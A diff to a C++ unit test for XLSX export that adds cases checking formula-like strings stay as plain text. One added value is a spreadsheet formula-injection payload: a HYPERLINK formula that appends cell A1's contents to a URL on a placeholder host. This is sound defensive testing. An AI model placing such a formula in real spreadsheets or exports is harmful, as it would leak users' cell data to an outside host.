@@ -132,6 +132,12 @@ void TestXlsxExport::journalReadsBackCellByCell()
         {u"2008-01-01"_s, {7}, u"一\r\n二\r三"_s},
         // Runs that Excel would read as coded characters.
         {u"2010-10-10"_s, {8}, u"品番_x0041_と_X004a_x0042_の件 _x00_"_s},
+        // Texts that look like formulas stay texts, as typed, without the CSV file's apostrophe.
+        {u"2011-01-01"_s, {-1000}, u"=HYPERLINK(\"http://example.com/?x=\"&A1,\"詳細\")"_s},
+        {u"2011-01-02"_s, {}, u"+81 3 1234"_s},
+        {u"2011-01-03"_s, {}, u"@SUM(A1)"_s},
+        {u"2011-01-04"_s, {}, u"'=1"_s},
+        {u"2011-01-05"_s, {}, u"-500"_s},
         {u"2019-05-01"_s, {}, std::nullopt},
         {u"2099-12-31"_s, {9'999'999'999}, u"最後の日"_s},
     };
